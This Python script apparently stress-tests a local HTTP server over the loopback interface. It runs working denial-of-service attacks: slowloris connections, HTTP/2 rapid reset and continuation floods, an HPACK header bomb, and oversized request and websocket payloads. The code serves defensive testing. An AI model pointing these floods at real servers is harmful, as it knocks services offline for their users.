"""A hostile crowd on the loopback interface: many connections whose headers never end, HTTP/2 streams opened only to be reset, endless heads, pings,
oversized everything. Each attacker has an address of its own in 127.0.1.0/24, so that the server can tell them apart from others.

usage: flood.py HOST:PORT CONNECTIONS SECONDS      prints one line of JSON: how far it got

Paced, so that on one machine it is the server's work that is measured and not the attackers': real ones have their own."""

import collections
import json
import os
import resource
import selectors
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" + b"\0\0\0\4\1\0\0\0\0"
GET = b"\x82\x86\x84\x41\x01x"  # HPACK: GET http / of authority x
SLOW_ADDRESSES = 20  # of the slow connections
DRIP_SECONDS = 2.0
RESERVE = 300  # descriptors for everything but the slow connections


def h2_frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


RESETS = b"".join(h2_frame(1, 5, 1 + 2 * n, GET) + h2_frame(3, 0, 1 + 2 * n, b"\0\0\0\x08") for n in range(400))
REQUEST = b"GET /api/companies HTTP/1.1\r\nHost: x\r\n"
POST = b"POST /api/companies HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
UPGRADE = (b"GET /api/analytics/ws/calls/01890000-0000-7000-8000-000000000000 HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
# name: what is sent at once, and then again and again
ATTACKS = {
    "rapid reset": (PREFACE + RESETS, b""),
    "continuations": (PREFACE + h2_frame(1, 1, 1, GET), h2_frame(9, 0, 1) * 50),
    "pings": (PREFACE, h2_frame(6, 0, 0, b"12345678") * 300),
    "settings": (PREFACE, h2_frame(4, 0, 0) * 300),
    "unknown frames": (PREFACE, h2_frame(0xEE, 0, 0) * 300),
    "empty data": (PREFACE + h2_frame(1, 4, 1, b"\x83\x86\x41\x01x\x44\x0e/api/companies"), h2_frame(0, 0, 1) * 300),
    "a head that unpacks": (PREFACE + h2_frame(1, 5, 1, GET + b"\x40\x06x-bomb\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 10000), b""),
    "a large head": (REQUEST + b"X: " + b"a" * 60000, b""),
    "many fields": (REQUEST + b"".join(b"X-%d: y\r\n" % n for n in range(500)) + b"\r\n", b""),
    "a long target": (b"GET /" + b"a" * 20000 + b" HTTP/1.1\r\nHost: x\r\n\r\n", b""),
    "a large body": (POST + b"Content-Length: 1000000000000\r\n\r\n", b"a" * 65536),
    "an endless body": (POST + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"a" * 65536 + b"\r\n"),
    "a large frame": (PREFACE + h2_frame(0, 0, 1, b"x" * 60000), b""),
    "websocket frames": (UPGRADE, b"\x89\x80\0\0\0\0" * 100),
    "a websocket message": (UPGRADE, b"\x01\xff\0\0\0\0\0\1\0\0\0\0\0\0" + b"a" * 65536),
    "many requests": (REQUEST + b"\r\n", (REQUEST + b"\r\n") * 20),
}


class Flood:
    def __init__(self, address, connections, seconds):
        host, port = address.rsplit(":", 1)
        self.server = (host, int(port))
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        self.wanted = min(connections, hard - RESERVE) if hard != resource.RLIM_INFINITY else connections
        self.until = time.monotonic() + seconds
        self.selector = selectors.EpollSelector()
        self.slow = collections.deque()  # (when to drip, socket)
        self.open, self.most, self.cut = 0, 0, 0
        self.rounds, self.ended = collections.Counter(), collections.Counter()
        self.attacks = {}  # socket: [name, when to go on]

    def connect(self, number):
        s = socket.socket()
        s.setblocking(False)
        s.bind((f"127.0.1.{number}", 0))
        try:
            s.connect(self.server)
        except BlockingIOError:
            pass
        return s

    def forget(self, s):
        self.selector.unregister(s)
        s.close()

    def begin_slow(self, count, now):
        for _ in range(count):
            s = self.connect(1 + self.open % SLOW_ADDRESSES)
            self.selector.register(s, selectors.EVENT_READ, "slow")
            self.slow.append((now + 0.2, s, b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "))
            self.open += 1
        self.most = max(self.most, self.open)

    def drip(self, now):
        while self.slow and self.slow[0][0] <= now:
            _, s, data = self.slow.popleft()
            if s.fileno() < 0:
                continue
            try:
                s.send(data)
            except BlockingIOError:
                pass
            except OSError:
                self.end_slow(s)
                continue
            self.slow.append((now + DRIP_SECONDS, s, b"a"))

    def end_slow(self, s):
        self.forget(s)
        self.open -= 1
        self.cut += 1

    def begin_attack(self, name, now):
        s = self.connect(100 + list(ATTACKS).index(name))
        self.selector.register(s, selectors.EVENT_READ, "attack")
        self.attacks[s] = [name, now + 0.1, memoryview(ATTACKS[name][0])]
        self.rounds[name] += 1

    def go_on(self, s, now):
        name, when, data = self.attacks[s]
        if when > now:
            return
        try:
            for _ in range(4):
                if not data:
                    data = memoryview(ATTACKS[name][1])
                if data:
                    data = data[s.send(data):]
        except BlockingIOError:
            pass
        except OSError:
            self.end_attack(s, now)
            return
        self.attacks[s] = [name, now + 0.02, data]

    def end_attack(self, s, now):
        name = self.attacks.pop(s)[0]
        self.ended[name] += 1
        self.forget(s)
        self.begin_attack(name, now)

    def turn(self):
        now = time.monotonic()
        if self.open < self.wanted:
            self.begin_slow(min(100, self.wanted - self.open), now)
        self.drip(now)
        for s in list(self.attacks):
            self.go_on(s, now)
        for key, _ in self.selector.select(0.01):
            try:
                if key.fileobj.recv(65536):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            if key.data == "slow":
                self.end_slow(key.fileobj)
            else:
                self.end_attack(key.fileobj, now)

    def run(self):
        for name in ATTACKS:
            self.begin_attack(name, time.monotonic())
        while time.monotonic() < self.until:
            self.turn()
        return {"connections": self.most, "cut": self.cut, "rounds": dict(self.rounds), "ended": dict(self.ended)}


if __name__ == "__main__":
    os.nice(10)
    print(json.dumps(Flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])).run()))
